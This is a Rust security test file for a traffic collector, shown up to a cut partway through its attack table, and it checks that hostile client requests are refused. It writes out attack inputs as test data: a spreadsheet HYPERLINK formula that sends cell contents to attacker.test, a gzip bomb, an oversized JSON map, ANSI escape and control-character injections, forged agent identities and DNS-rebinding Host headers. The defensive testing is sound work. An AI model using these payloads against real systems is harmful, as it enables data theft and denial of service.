//! The hostile-client stage (issue 8, item 8): every network-reachable attack of the security
//! review against the real collector binary, once on SQLite and once on ClickHouse.
//!
//! Per backend: an ATTACKED collector and a REFERENCE collector (same backend kind, fresh store,
//! same configuration). A legitimate agent (its own token, bound to its machine id, hostname
//! and addresses) posts reports for recent minutes to both during the whole attack phase; every
//! one must be answered 200 `stored` within 5 s. Only the attacked collector gets the attacks;
//! each answer is checked exactly (status, message prefix as CONTRACT8 says, security headers).
//! At the end every map (every view; each day the legitimate reports touch and a multi-hour
//! range) and every export format of those days must be byte-identical on both collectors,
//! which proves that nothing of the attacks was stored and nothing broke. The one field
//! normalised before comparing is `generated_at` of the JSON map and the JSON export (the time
//! the map was built); the CSV, draw.io and DOT exports carry no generation time and are
//! compared as they are.
//!
//! The attacks are table entries ([`ATTACKS`], [`SPECIAL`]); docs/collector.md ("Security" ->
//! "Attacks and answers") holds the table generated from them, and `docs_table_lists_every_attack`
//! fails when the two drift apart (it prints the table to paste).
//!
//! `cargo test -p trafficmap-collector --test hostile`; the ClickHouse half needs Debian's
//! clickhouse-server (`cargo xtask test --only hostile` installs it and sets CI, so a missing
//! server fails instead of skipping).

#[path = "support/hostile.rs"]
mod hostile_support;
mod support;

use std::{
    collections::BTreeSet,
    io::{Read as _, Write as _},
    net::{IpAddr, SocketAddr, TcpStream},
    path::Path,
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, Ordering},
    },
    time::{Duration, Instant},
};

use chrono::{DateTime, DurationRound as _, NaiveDate, TimeDelta, Utc};
use hostile_support::{Body, Req, send, write_files};
use serde_json::{Value, json};
use support::{Collector, Response, clickhouse::ClickHouse, pki::Pki};

// ---------------------------------------------------------------------------------------------
// Identities and files

/// The legitimate agent's token: bound to its machine id, hostname pattern and address block.
const LEGIT_TOKEN: &str = "legit-agent-token-0123456789abcdef";
const LEGIT_MID: &str = "1e9170000000000000000000000000a1";
const LEGIT_HOST: &str = "legit-web";
const LEGIT_IP: &str = "10.77.0.1";
/// The attacker holds a valid token of its own (a compromised host of the fleet).
const ATTACKER_TOKEN: &str = "attacker-token-0123456789abcdef";
const ATTACKER_MID: &str = "a77ac4e7000000000000000000000b02";
const ATTACKER_HOST: &str = "attacker-1";
const ATTACKER_IP: &str = "10.66.0.1";
/// A read (dashboard) token: grants reads, not reports.
const READ_TOKEN: &str = "read-token-dashboard-0123456789";

fn agent_token_lines() -> Vec<String> {
    vec![
        "# issue 8 hostile test: each token speaks for one host only".into(),
        format!(
            "{LEGIT_TOKEN} legit-agent machine-id={LEGIT_MID} hostname=legit-* addresses=10.77.0.0/24"
        ),
        format!(
            "{ATTACKER_TOKEN} attacker machine-id={ATTACKER_MID} hostname=attacker-* addresses=10.66.0.0/16"
        ),
    ]
}

fn read_token_lines() -> Vec<String> {
    vec![format!("{READ_TOKEN} dashboard")]
}

/// Inventory names and labels that a spreadsheet would evaluate (formula injection): the CSV
/// export must neutralise them. They are the operator's data, present on both collectors.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://attacker.test/?\"&B2,\"x\")";
const INVENTORY: &str = r#"
[[host]]
address = "10.77.0.9"
name = "=HYPERLINK(\"http://attacker.test/?\"&B2,\"x\")"
env = "+prod"
archdomain = "-core"
labels = { team = "@ops" }

[[host]]
address = "10.77.0.10"
name = "@SUM(1+1)"
env = "-staging"
archdomain = "+edge"
"#;

#[derive(Clone, Copy, Debug, PartialEq)]
enum Backend {
    Sqlite,
    ClickHouse,
}

/// The configuration both collectors run with (defaults of CONTRACT8 for everything not
/// written: `max_connections_per_address` 64, header timeout 10 s, `map_builds` 2,
/// `max_range_days` 31, `allowed_hosts` the loopback names; `idle_timeout` 3 s instead of 60).
fn config(
    backend: Backend,
    dir: &Path,
    files: &hostile_support::Files,
    ch: Option<(&str, &str)>,
) -> String {
    let storage = match (backend, ch) {
        (Backend::Sqlite, _) => {
            "[storage]\nbackend = \"sqlite\"\nsqlite_sync = \"normal\"\n".into()
        }
        (Backend::ClickHouse, Some((url, db))) => format!(
            "[storage]\nbackend = \"clickhouse\"\n[storage.clickhouse]\nurl = \"{url}\"\ndatabase = \"{db}\"\n"
        ),
        (Backend::ClickHouse, None) => unreachable!("ClickHouse without a server"),
    };
    format!(
        r#"data_dir = "{data}"
token_file = "{tokens}"
read_token_file = "{read}"
trusted_proxies = ["127.0.0.7/32"]
proxy_user_header = "X-Forwarded-User"
# Short, so that the idle keep-alive attack is quick.
idle_timeout = "3s"

[daily]
# Finished days would be served from files written at some moment; the comparison wants both
# collectors to build every map from their stores.
enabled = false

[enrich]
inventory_file = "{inv}"

[enrich.dns]
enabled = false

{storage}"#,
        data = dir.join("data").display(),
        tokens = files.tokens.display(),
        read = files.read_tokens.display(),
        inv = files.inventory.display(),
    )
}

// ---------------------------------------------------------------------------------------------
// Reports

fn ts(d: DateTime<Utc>) -> String {
    d.to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
}

fn minute(minutes_ago: i64) -> DateTime<Utc> {
    (Utc::now() - TimeDelta::minutes(minutes_ago))
        .duration_trunc(TimeDelta::minutes(1))
        .unwrap()
}

/// The legitimate agent's report number `i`: its own minute (`i + 2` minutes ago), known bytes.
fn legit_report(run: &str, i: u64, start: DateTime<Utc>) -> Vec<u8> {
    let mut r = support::report(
        &format!("legit-{run}-{i:06}"),
        LEGIT_HOST,
        LEGIT_IP,
        start,
        &[
            (
                LEGIT_IP,
                "10.77.0.9",
                5432,
                "client",
                "psql",
                1000 + i,
                2000 + i,
            ),
            (
                LEGIT_IP,
                "10.77.0.10",
                443,
                "client",
                "curl",
                300 + i,
                7000 + i,
            ),
            (
                LEGIT_IP,
                "203.0.113.7",
                80,
                "server",
                "nginx",
                50 + i,
                60 + i,
            ),
        ],
    );
    r["host"]["machine_id"] = json!(LEGIT_MID);
    serde_json::to_vec(&r).unwrap()
}

/// The attacker's baseline: a report its token may send (its own identity, a recent minute,
/// every value inside the bounds). Each attack changes one thing of it; the unit test
/// `attacker_baseline_is_valid` proves the baseline itself is accepted by the parser, so each
/// refusal is caused by the one change.
fn attacker_report(id: &str) -> Value {
    let start = minute(3);
    let mut r = support::report(
        id,
        ATTACKER_HOST,
        ATTACKER_IP,
        start,
        &[(
            ATTACKER_IP,
            LEGIT_IP,
            5432,
            "client",
            "exfil",
            1_000_000,
            2_000_000,
        )],
    );
    r["host"]["machine_id"] = json!(ATTACKER_MID);
    r["health"]["drops"] = json!({ "conns_full": 0 });
    r
}

/// `window.<which>` of a report.
fn window(r: &Value, which: &str) -> DateTime<Utc> {
    r["window"][which].as_str().unwrap().parse().unwrap()
}

/// Window length of the baseline (1 minute), for the bounds of CONTRACT8.
const WINDOW_SECS: u64 = 60;
const MAX_LINK_BYTES_PER_SEC: u64 = 50_000_000_000;
const MAX_CONNS_PER_SEC: u64 = 10_000_000;
const MAX_ACTIVE: u64 = 16_777_216;
const MAX_EVENTS_PER_SEC: u64 = 1_000_000_000;

static SEQ: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);

/// A report id of its own for each attack request (never seen, so "duplicate" cannot answer).
fn fresh_id(name: &str) -> String {
    let n = SEQ.fetch_add(1, Ordering::Relaxed);
    let clean: String = name
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .take(40)
        .collect();
    format!("atk-{clean}-{n:06}")
}

/// A report request of the attacker: baseline changed by `f`, sent with `token`.
fn attack_report(name: &str, token: Option<&str>, f: impl FnOnce(&mut Value)) -> Req {
    let mut r = attacker_report(&fresh_id(name));
    f(&mut r);
    let req = Req::post(
        "/api/v1/reports",
        Body::Bytes(serde_json::to_vec(&r).unwrap()),
    )
    .header("Content-Type", "application/json");
    match token {
        Some(t) => req.bearer(t),
        None => req,
    }
}

/// The attacker's own token: passes authentication and identity, so content checks answer.
fn atk(name: &str, f: impl FnOnce(&mut Value)) -> Req {
    attack_report(name, Some(ATTACKER_TOKEN), f)
}

/// A report whose `pairs[0].<field>` is the raw JSON text `raw` (numbers beyond what
/// serde_json's `Value` keeps exactly, e.g. u64::MAX).
fn atk_raw_field(name: &str, path: &[&str], raw: &str) -> Req {
    let mut r = attacker_report(&fresh_id(name));
    let marker = "\"__RAW__\"";
    let mut v = &mut r;
    for p in &path[..path.len() - 1] {
        v = match p.parse::<usize>() {
            Ok(i) => &mut v[i],
            Err(_) => &mut v[*p],
        };
    }
    v[path[path.len() - 1]] = json!("__RAW__");
    let body = serde_json::to_string(&r).unwrap().replace(marker, raw);
    Req::post("/api/v1/reports", Body::Bytes(body.into_bytes()))
        .header("Content-Type", "application/json")
        .bearer(ATTACKER_TOKEN)
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use flate2::{Compression, write::GzEncoder};
    let mut e = GzEncoder::new(Vec::new(), Compression::best());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

/// 100 MiB of zeros inflating from about 100 KiB: far over the 16 MiB body limit.
fn gzip_bomb() -> Vec<u8> {
    use flate2::{Compression, write::GzEncoder};
    let mut e = GzEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..100 {
        e.write_all(&zeros).unwrap();
    }
    e.finish().unwrap()
}

/// A report whose `health.drops` has 1.2 million keys (about 14 MB, under the body limit, so
/// the parser itself must bound it).
fn huge_drops() -> Vec<u8> {
    let r = attacker_report(&fresh_id("huge-drops"));
    let mut s = serde_json::to_string(&r).unwrap();
    let mut drops = String::with_capacity(16 << 20);
    drops.push('{');
    for i in 0..1_200_000u32 {
        if i > 0 {
            drops.push(',');
        }
        drops.push_str(&format!("\"{i:x}\":0"));
    }
    drops.push('}');
    s = s.replace("{\"conns_full\":0}", &drops);
    assert!(s.len() < 16 << 20, "{} bytes", s.len());
    s.into_bytes()
}

// ---------------------------------------------------------------------------------------------
// The attack table

/// What an attack's answer must be.
#[derive(Clone, Copy, Debug)]
enum Expect {
    /// `{"error": "<prefix>..."}` with this status.
    Error(u16, &'static str),
    /// This status and a body starting with this text.
    Ok(u16, &'static str),
}

impl Expect {
    fn doc(self) -> String {
        match self {
            Expect::Error(s, "") => format!("{s}"),
            // A prefix holding a backtick is fenced with two (Markdown).
            Expect::Error(s, p) if p.contains('`') => format!("{s} `` {p} ``"),
            Expect::Error(s, p) => format!("{s} `{p}`"),
            Expect::Ok(s, "") => format!("{s}"),
            Expect::Ok(s, p) => format!("{s} `{p}`"),
        }
    }
}

/// Where the state the builders need comes from.
struct Ctx {
    day: NaiveDate,
}

struct Attack {
    /// Stable name (the first column of the docs table).
    name: &'static str,
    /// The request, for the docs table.
    request: &'static str,
    expect: Expect,
    /// How many times the request is sent (finding 3 needed two).
    times: usize,
    /// The client's address (127.0.0.x).
    src: IpAddr,
    build: fn(&Ctx) -> Req,
}

fn days_path(ctx: &Ctx) -> String {
    format!("/api/v1/maps?view=instances&day={}", ctx.day)
}

fn range_path(days: i64) -> String {
    let to = minute(0);
    let from = to - TimeDelta::days(days);
    format!(
        "/api/v1/maps?view=instances&from={}&to={}",
        from.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        to.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
    )
}

const REPORTS: &str = "/api/v1/reports";

/// Every single-request attack. Report attacks use the attacker's own valid token unless the
/// token is the attack.
const ATTACKS: &[Attack] = &[
    // Finding 3: u64::MAX drops, twice; then u64::MAX bytes.
    Attack {
        name: "drops_u64_max_twice",
        request: "`health.drops.conns_full` = 18446744073709551615, posted twice",
        expect: Expect::Error(400, "health.drops"),
        times: 2,
        src: LOCAL,
        build: |_| {
            atk_raw_field(
                "drops-max",
                &["health", "drops", "conns_full"],
                "18446744073709551615",
            )
        },
    },
    Attack {
        name: "bytes_sent_u64_max",
        request: "`pairs[0].bytes_sent` = 18446744073709551615",
        expect: Expect::Error(400, "pairs[0].bytes_sent"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk_raw_field(
                "bytes-max",
                &["pairs", "0", "bytes_sent"],
                "18446744073709551615",
            )
        },
    },
    // Each bound of CONTRACT8, one above.
    Attack {
        name: "bytes_sent_over_link",
        request: "`bytes_sent` = 50e9 x 60 + 1 in a 1-minute window",
        expect: Expect::Error(400, "pairs[0].bytes_sent"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("bytes-sent", |r| {
                r["pairs"][0]["bytes_sent"] = json!(MAX_LINK_BYTES_PER_SEC * WINDOW_SECS + 1)
            })
        },
    },
    Attack {
        name: "bytes_received_over_link",
        request: "`bytes_received` = 50e9 x 60 + 1",
        expect: Expect::Error(400, "pairs[0].bytes_received"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("bytes-recv", |r| {
                r["pairs"][0]["bytes_received"] = json!(MAX_LINK_BYTES_PER_SEC * WINDOW_SECS + 1)
            })
        },
    },
    Attack {
        name: "bytes_negative",
        request: "`bytes_sent` = -1",
        expect: Expect::Error(400, "malformed report at `pairs[0].bytes_sent`"),
        times: 1,
        src: LOCAL,
        build: |_| atk_raw_field("bytes-neg", &["pairs", "0", "bytes_sent"], "-1"),
    },
    Attack {
        name: "bytes_float",
        request: "`bytes_sent` = 1e300",
        expect: Expect::Error(400, "malformed report at `pairs[0].bytes_sent`"),
        times: 1,
        src: LOCAL,
        build: |_| atk_raw_field("bytes-float", &["pairs", "0", "bytes_sent"], "1e300"),
    },
    Attack {
        name: "connections_opened_over",
        request: "`connections_opened` = 1e7 x 60 + 1",
        expect: Expect::Error(400, "pairs[0].connections_opened"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("conns-opened", |r| {
                r["pairs"][0]["connections_opened"] = json!(MAX_CONNS_PER_SEC * WINDOW_SECS + 1)
            })
        },
    },
    Attack {
        name: "connections_closed_over",
        request: "`connections_closed` = 1e7 x 60 + 1",
        expect: Expect::Error(400, "pairs[0].connections_closed"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("conns-closed", |r| {
                r["pairs"][0]["connections_closed"] = json!(MAX_CONNS_PER_SEC * WINDOW_SECS + 1)
            })
        },
    },
    Attack {
        name: "connections_active_over",
        request: "`connections_active` = 16777217",
        expect: Expect::Error(400, "pairs[0].connections_active"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("conns-active", |r| {
                r["pairs"][0]["connections_active"] = json!(MAX_ACTIVE + 1)
            })
        },
    },
    Attack {
        name: "drops_over",
        request: "a drop counter = 1e9 x 60 + 1",
        expect: Expect::Error(400, "health.drops"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("drops-over", |r| {
                r["health"]["drops"]["conns_full"] = json!(MAX_EVENTS_PER_SEC * WINDOW_SECS + 1)
            })
        },
    },
    Attack {
        name: "drop_keys_33",
        request: "33 drop keys",
        expect: Expect::Error(400, "health.drops"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("drop-keys", |r| {
                let drops: serde_json::Map<String, Value> =
                    (0..33).map(|i| (format!("k{i}"), json!(0))).collect();
                r["health"]["drops"] = Value::Object(drops);
            })
        },
    },
    Attack {
        name: "drop_key_charset",
        request: "drop key `Conns-Full` (outside `[a-z0-9_]`)",
        expect: Expect::Error(400, "health.drops"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("drop-key-chars", |r| {
                r["health"]["drops"] = json!({ "Conns-Full": 0 })
            })
        },
    },
    Attack {
        name: "drop_key_33_chars",
        request: "drop key of 33 characters",
        expect: Expect::Error(400, "health.drops"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("drop-key-long", |r| {
                let mut drops = serde_json::Map::new();
                drops.insert("a".repeat(33), json!(0));
                r["health"]["drops"] = Value::Object(drops);
            })
        },
    },
    Attack {
        name: "map_entries_over_capacity",
        request: "`map_entries` = `map_capacity` + 1",
        expect: Expect::Error(400, "health.map_entries"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("map-entries", |r| {
                r["health"]["map_capacity"] = json!(1024);
                r["health"]["map_entries"] = json!(1025);
            })
        },
    },
    Attack {
        name: "map_capacity_over",
        request: "`map_capacity` = 2^32 + 1",
        expect: Expect::Error(400, "health.map_capacity"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("map-cap", |r| {
                r["health"]["map_capacity"] = json!((1u64 << 32) + 1)
            })
        },
    },
    Attack {
        name: "spool_dropped_over",
        request: "`spool_dropped` = 2^32 + 1",
        expect: Expect::Error(400, "health.spool_dropped"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("spool-dropped", |r| {
                r["health"]["spool_dropped"] = json!((1u64 << 32) + 1)
            })
        },
    },
    Attack {
        name: "window_over_an_hour",
        request: "window of 1 h 1 min",
        expect: Expect::Error(400, "window.end"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("window-long", |r| {
                let start = minute(62);
                r["window"] =
                    json!({ "start": ts(start), "end": ts(start + TimeDelta::minutes(61)) });
                r["pairs"][0]["first_seen"] = json!(ts(start));
                r["pairs"][0]["last_seen"] = json!(ts(start + TimeDelta::minutes(30)));
            })
        },
    },
    Attack {
        name: "window_end_before_start",
        request: "`window.end` = `window.start`",
        expect: Expect::Error(400, "window.end"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("window-empty", |r| {
                r["window"]["end"] = r["window"]["start"].clone();
                r["pairs"][0]["last_seen"] = r["window"]["start"].clone();
            })
        },
    },
    Attack {
        name: "first_seen_before_window",
        request: "`first_seen` 1 s before `window.start`",
        expect: Expect::Error(400, "pairs[0].first_seen"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("first-seen", |r| {
                r["pairs"][0]["first_seen"] = json!(ts(window(r, "start") - TimeDelta::seconds(1)))
            })
        },
    },
    Attack {
        name: "last_seen_after_window",
        request: "`last_seen` 1 s after `window.end`",
        expect: Expect::Error(400, "pairs[0].last_seen"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("last-seen", |r| {
                r["pairs"][0]["last_seen"] = json!(ts(window(r, "end") + TimeDelta::seconds(1)))
            })
        },
    },
    Attack {
        name: "hostname_254_bytes",
        request: "`host.hostname` of 254 bytes",
        expect: Expect::Error(400, "host.hostname"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("hostname-long", |r| {
                r["host"]["hostname"] = json!(format!("attacker-{}", "a".repeat(245)))
            })
        },
    },
    Attack {
        name: "hostname_control_char",
        request: "`host.hostname` = `attacker-1\\u0007`",
        expect: Expect::Error(400, "host.hostname"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("hostname-bel", |r| {
                r["host"]["hostname"] = json!("attacker-1\u{7}")
            })
        },
    },
    Attack {
        name: "hostname_ansi_escape",
        request: "`host.hostname` = `attacker-\\u001b[31mred`",
        expect: Expect::Error(400, "host.hostname"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("hostname-ansi", |r| {
                r["host"]["hostname"] = json!("attacker-\u{1b}[31mred")
            })
        },
    },
    Attack {
        name: "process_256_bytes",
        request: "`pairs[0].process` of 256 bytes",
        expect: Expect::Error(400, "pairs[0].process"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("process-long", |r| {
                r["pairs"][0]["process"] = json!("p".repeat(256))
            })
        },
    },
    Attack {
        name: "process_control_char",
        request: "`pairs[0].process` = `exfil\\u0000`",
        expect: Expect::Error(400, "pairs[0].process"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("process-nul", |r| {
                r["pairs"][0]["process"] = json!("exfil\u{0}")
            })
        },
    },
    // Issue 11: the container and Service fields of a pair, each refused with its path.
    Attack {
        name: "container_id_uppercase",
        request: "`pairs[0].container.id` of 64 `A`",
        expect: Expect::Error(400, "pairs[0].container.id"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("container-id", |r| {
                r["pairs"][0]["container"] = json!({ "id": "A".repeat(64), "runtime": "docker" })
            })
        },
    },
    Attack {
        name: "container_runtime_unknown",
        request: "`pairs[0].container.runtime` = `lxc`",
        expect: Expect::Error(400, "malformed report at `pairs[0].container.runtime`"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("container-runtime", |r| {
                r["pairs"][0]["container"] = json!({ "id": "a".repeat(64), "runtime": "lxc" })
            })
        },
    },
    Attack {
        name: "container_namespace_64_bytes",
        request: "`pairs[0].container.namespace` of 64 bytes",
        expect: Expect::Error(400, "pairs[0].container.namespace"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("container-ns", |r| {
                r["pairs"][0]["container"] = json!({
                    "id": "a".repeat(64), "runtime": "containerd", "namespace": "n".repeat(64)
                })
            })
        },
    },
    Attack {
        name: "container_workload_kind_escape",
        request: "`pairs[0].container.workload_kind` = `Deploy\\u001b[31m`",
        expect: Expect::Error(400, "pairs[0].container.workload_kind"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("container-kind", |r| {
                r["pairs"][0]["container"] = json!({
                    "id": "a".repeat(64), "runtime": "cri-o", "workload_kind": "Deploy\u{1b}[31m"
                })
            })
        },
    },
    Attack {
        name: "service_ip_without_port",
        request: "`pairs[0].service_ip` without `service_port`",
        expect: Expect::Error(400, "pairs[0].service_port"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("service-half", |r| {
                r["pairs"][0]["service_ip"] = json!("10.96.0.40")
            })
        },
    },
    Attack {
        name: "agent_version_129_bytes",
        request: "`agent.version` of 129 bytes",
        expect: Expect::Error(400, "agent.version"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("agent-version", |r| {
                r["agent"]["version"] = json!("1".repeat(129))
            })
        },
    },
    Attack {
        name: "addresses_257",
        request: "257 `host.addresses` (all inside the token's block)",
        expect: Expect::Error(400, "host.addresses"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("addresses-257", |r| {
                r["host"]["addresses"] = (0..257u32)
                    .map(|i| json!(format!("10.66.{}.{}", i / 250, 1 + i % 250)))
                    .collect();
            })
        },
    },
    Attack {
        name: "addresses_duplicate",
        request: "`host.addresses` = [10.66.0.1, 10.66.0.1]",
        expect: Expect::Error(400, "host.addresses"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("addresses-dup", |r| {
                r["host"]["addresses"] = json!([ATTACKER_IP, ATTACKER_IP])
            })
        },
    },
    Attack {
        name: "huge_drops_map",
        request: "`health.drops` with 1.2 million keys (14 MB)",
        expect: Expect::Error(400, "health.drops"),
        times: 1,
        src: LOCAL,
        build: |_| {
            Req::post(REPORTS, Body::Bytes(huge_drops()))
                .header("Content-Type", "application/json")
                .bearer(ATTACKER_TOKEN)
        },
    },
    // Identity (finding 2): the attacker's valid token claiming what it does not cover.
    Attack {
        name: "forged_machine_id",
        request: "attacker's token, the legitimate host's machine id",
        expect: Expect::Error(403, "identity:"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("forged-mid", |r| {
                r["host"]["machine_id"] = json!(LEGIT_MID);
                r["pairs"][0]["bytes_sent"] = json!(1_000_000_000_000u64);
            })
        },
    },
    Attack {
        name: "forged_hostname",
        request: "attacker's token, hostname `legit-web`",
        expect: Expect::Error(403, "identity:"),
        times: 1,
        src: LOCAL,
        build: |_| atk("forged-host", |r| r["host"]["hostname"] = json!(LEGIT_HOST)),
    },
    Attack {
        name: "forged_addresses",
        request: "attacker's token, address 10.77.0.1 (outside its 10.66.0.0/16)",
        expect: Expect::Error(403, "identity:"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("forged-addr", |r| {
                r["host"]["addresses"] = json!([LEGIT_IP]);
                r["pairs"][0]["local_ip"] = json!(LEGIT_IP);
                r["pairs"][0]["peer_ip"] = json!("10.77.0.9");
            })
        },
    },
    Attack {
        name: "forged_instance_id",
        request: "attacker's token, an EC2 instance id it was not given",
        expect: Expect::Error(403, "identity:"),
        times: 1,
        src: LOCAL,
        build: |_| {
            atk("forged-ec2", |r| {
                r["host"]["ec2"] = json!({
                    "instance_id": "i-0a1b2c3d4e5f60718",
                    "region": "us-east-1",
                    "availability_zone": "us-east-1a",
                    "instance_type": "m5.large"
                })
            })
        },
    },
    // Authentication of reports.
    Attack {
        name: "report_without_token",
        request: "report without `Authorization`",
        expect: Expect::Error(401, "missing `Authorization"),
        times: 1,
        src: LOCAL,
        build: |_| attack_report("no-token", None, |_| {}),
    },
    Attack {
        name: "report_unknown_token",
        request: "report with an unknown token",
        expect: Expect::Error(401, "unknown token"),
        times: 1,
        src: LOCAL,
        build: |_| {
            attack_report(
                "unknown-token",
                Some("not-a-token-0123456789abcdef"),
                |_| {},
            )
        },
    },
    Attack {
        name: "report_with_read_token",
        request: "report with the read token",
        expect: Expect::Error(401, "unknown token"),
        times: 1,
        src: LOCAL,
        build: |_| attack_report("read-token-post", Some(READ_TOKEN), |_| {}),
    },
    // Sizes.
    Attack {
        name: "body_70mb_declared",
        request: "`Content-Length: 70000000` (body never sent)",
        expect: Expect::Error(413, "body of 70000000 bytes over the limit"),
        times: 1,
        src: LOCAL,
        build: |_| {
            Req::post(REPORTS, Body::DeclaredOnly(70_000_000))
                .header("Content-Type", "application/json")
                .bearer(ATTACKER_TOKEN)
        },
    },
    Attack {
        name: "body_70mb_chunked",
        request: "70 MB chunked body",
        expect: Expect::Error(413, "body over the limit"),
        times: 1,
        src: LOCAL,
        build: |_| {
            Req::post(
                REPORTS,
                Body::Chunked {
                    total: 70_000_000,
                    fill: b' ',
                },
            )
            .header("Content-Type", "application/json")
            .bearer(ATTACKER_TOKEN)
        },
    },
    Attack {
        name: "gzip_bomb",
        request: "100 KiB gzip inflating to 100 MiB",
        expect: Expect::Error(413, "decompressed body over the limit"),
        times: 1,
        src: LOCAL,
        build: |_| {
            Req::post(REPORTS, Body::Bytes(gzip_bomb()))
                .header("Content-Type", "application/json")
                .header("Content-Encoding", "gzip")
                .bearer(ATTACKER_TOKEN)
        },
    },
    Attack {
        name: "gzip_report_u64_max",
        request: "gzip of a report with `bytes_sent` = u64::MAX",
        expect: Expect::Error(400, "pairs[0].bytes_sent"),
        times: 1,
        src: LOCAL,
        build: |_| {
            let r = attacker_report(&fresh_id("gzip-max"));
            let body = serde_json::to_string(&r).unwrap().replace(
                "\"bytes_sent\":1000000",
                "\"bytes_sent\":18446744073709551615",
            );
            Req::post(REPORTS, Body::Bytes(gzip(body.as_bytes())))
                .header("Content-Type", "application/json")
                .header("Content-Encoding", "gzip")
                .bearer(ATTACKER_TOKEN)
        },
    },
    // Reads (finding 1).
    Attack {
        name: "days_without_token",
        request: "`GET /api/v1/days`, no token",
        expect: Expect::Error(401, ""),
        times: 1,
        src: LOCAL,
        build: |_| Req::get("/api/v1/days"),
    },
    Attack {
        name: "map_without_token",
        request: "`GET /api/v1/maps?view=instances&day=D`, no token",
        expect: Expect::Error(401, ""),
        times: 1,
        src: LOCAL,
        build: |c| Req::get(days_path(c)),
    },
    Attack {
        name: "export_without_token",
        request: "`GET /api/v1/maps/export?...&format=json`, no token",
        expect: Expect::Error(401, ""),
        times: 1,
        src: LOCAL,
        build: |c| {
            Req::get(format!(
                "/api/v1/maps/export?view=instances&day={}&format=json",
                c.day
            ))
        },
    },
    Attack {
        name: "metrics_without_token",
        request: "`GET /metrics`, no token",
        expect: Expect::Error(401, ""),
        times: 1,
        src: LOCAL,
        build: |_| Req::get("/metrics"),
    },
    Attack {
        name: "map_with_agent_token",
        request: "map with the legitimate agent's token",
        expect: Expect::Error(401, ""),
        times: 1,
        src: LOCAL,
        build: |c| Req::get(days_path(c)).bearer(LEGIT_TOKEN),
    },
    Attack {
        name: "map_with_unknown_token",
        request: "map with an unknown token",
        expect: Expect::Error(401, ""),
        times: 1,
        src: LOCAL,
        build: |c| Req::get(days_path(c)).bearer("not-a-token-0123456789abcdef"),
    },
    Attack {
        name: "proxy_header_untrusted",
        request: "map with `X-Forwarded-User: admin` from an address that is no trusted proxy",
        expect: Expect::Error(401, ""),
        times: 1,
        src: LOCAL,
        build: |c| Req::get(days_path(c)).header("X-Forwarded-User", "admin"),
    },
    Attack {
        name: "proxy_header_trusted",
        request: "map with `X-Forwarded-User: admin` from the trusted proxy 127.0.0.7, no token",
        expect: Expect::Ok(200, "{"),
        times: 1,
        src: PROXY_SRC,
        build: |c| Req::get(days_path(c)).header("X-Forwarded-User", "admin"),
    },
    Attack {
        name: "metrics_with_read_token",
        request: "`GET /metrics` with the read token",
        expect: Expect::Ok(200, "# help"),
        times: 1,
        src: LOCAL,
        build: |_| Req::get("/metrics").bearer(READ_TOKEN),
    },
    Attack {
        name: "host_evil",
        request: "`Host: evil.test` (DNS rebinding), with the read token",
        expect: Expect::Error(403, "host:"),
        times: 1,
        src: LOCAL,
        build: |_| {
            Req::get("/api/v1/days")
                .bearer(READ_TOKEN)
                .host("evil.test")
        },
    },
    Attack {
        name: "host_suffix",
        request: "`Host: localhost.evil.test:9978`, with the read token",
        expect: Expect::Error(403, "host:"),
        times: 1,
        src: LOCAL,
        build: |_| {
            Req::get("/api/v1/days")
                .bearer(READ_TOKEN)
                .host("localhost.evil.test:9978")
        },
    },
    Attack {
        name: "range_400_days",
        request: "map of a 400-day range (read token)",
        expect: Expect::Error(400, "range:"),
        times: 1,
        src: LOCAL,
        build: |_| Req::get(range_path(400)).bearer(READ_TOKEN),
    },
    Attack {
        name: "range_32_days",
        request: "map of a 32-day range (one over `max_range_days`)",
        expect: Expect::Error(400, "range:"),
        times: 1,
        src: LOCAL,
        build: |_| Req::get(range_path(32)).bearer(READ_TOKEN),
    },
    Attack {
        name: "export_range_400_days",
        request: "CSV export of a 400-day range",
        expect: Expect::Error(400, "range:"),
        times: 1,
        src: LOCAL,
        build: |_| {
            Req::get(range_path(400).replace("/maps?", "/maps/export?") + "&format=csv")
                .bearer(READ_TOKEN)
        },
    },
    // What stays open, and says nothing.
    Attack {
        name: "healthz_open",
        request: "`GET /healthz`, no token",
        expect: Expect::Ok(200, "ok"),
        times: 1,
        src: LOCAL,
